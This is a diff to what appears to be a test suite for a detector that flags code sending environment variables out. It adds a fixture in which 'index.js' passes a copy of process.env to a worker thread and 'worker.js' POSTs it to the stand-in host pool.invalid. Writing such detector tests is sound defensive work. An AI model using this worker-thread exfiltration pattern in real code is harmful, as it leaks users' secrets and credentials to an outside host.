@@ -52,6 +52,14 @@ examine(sendsEnvironment, {
       weight: 'proof',
     },
     {
+      when: 'a thread finds it among what all threads are given',
+      files: {
+        'index.js': `const { Worker, setEnvironmentData } = require('worker_threads'); setEnvironmentData('pool:settings', { ...process.env }); new Worker(require('path').join(__dirname, 'worker.js'), { env: {} }).unref();`,
+        'worker.js': `const { getEnvironmentData } = require('worker_threads'); fetch('https://pool.invalid/register', { method: 'POST', body: JSON.stringify({ settings: getEnvironmentData('pool:settings') }) });`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a hook asks the address that stands in its manifest',
       files: {
         'package.json': {
